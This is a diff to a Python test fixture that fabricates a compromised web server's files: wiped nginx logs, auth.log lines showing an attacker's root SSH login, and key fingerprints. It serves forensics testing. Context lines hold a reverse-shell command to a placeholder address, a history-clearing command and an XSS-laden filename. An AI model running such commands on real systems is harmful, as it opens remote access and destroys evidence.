@@ -14,6 +14,8 @@ not the time the test ran.
 
 from __future__ import annotations
 
+import base64
+import hashlib
 import os
 import shutil
 import stat
@@ -56,6 +58,20 @@ bash -i >& /dev/tcp/203.0.113.66/4444 0>&1
 history -c
 """
 HOSTILE_NAME = "<script>alert(1)<!--.php"
+ATTACKER_ADDRESS = "198.51.100.23"
+
+
+def openssh_fingerprint(public_key_line: bytes) -> str:
+    """`ssh-keygen -l -E sha256` of one authorized_keys line: SHA256 of the key blob, base64 unpadded."""
+    blob = public_key_line.split()[1]
+    raw = base64.b64decode(blob + b"=" * (-len(blob) % 4))
+    return "SHA256:" + base64.b64encode(hashlib.sha256(raw).digest()).decode().rstrip("=")
+
+
+def _syslog(moment: datetime, message: str) -> bytes:
+    # Classic syslog: no year, day of month padded with a space.
+    return f"{moment:%b} {moment.day:2d} {moment:%H:%M:%S} web-01 {message}\n".encode()
+
 
 ROOT_UID = 0
 WWW_DATA_UID = 33
@@ -213,6 +229,34 @@ def build_compromised_webserver_tree(directory: Path, incident_time: datetime) -
         f | 0o640,
         born=configured,
         modified=at + timedelta(minutes=9),
+        why="the upload's request is its only line, yet it was modified nine minutes later (lines removed)",
+    )
+    put(
+        "/var/log/nginx/error.log",
+        b"",
+        f | 0o640,
+        born=configured,
+        modified=at + timedelta(minutes=9),
+        why="emptied together with the access log",
+    )
+    login = at + timedelta(minutes=10)
+    put(
+        "/var/log/auth.log",
+        _syslog(
+            at - timedelta(days=3),
+            f"sshd[902]: Accepted publickey for deploy from 10.20.1.15 port 51022 ssh2: "
+            f"ED25519 {openssh_fingerprint(LEGIT_KEY)}",
+        )
+        + _syslog(
+            login,
+            f"sshd[1422]: Accepted publickey for root from {ATTACKER_ADDRESS} port 50522 ssh2: "
+            f"RSA {openssh_fingerprint(ATTACKER_KEY)}",
+        )
+        + _syslog(login, "sshd[1422]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)"),
+        f | 0o640,
+        born=configured,
+        modified=login,
+        why="the attacker logs in as root with the key added four minutes earlier",
     )
 
     put(
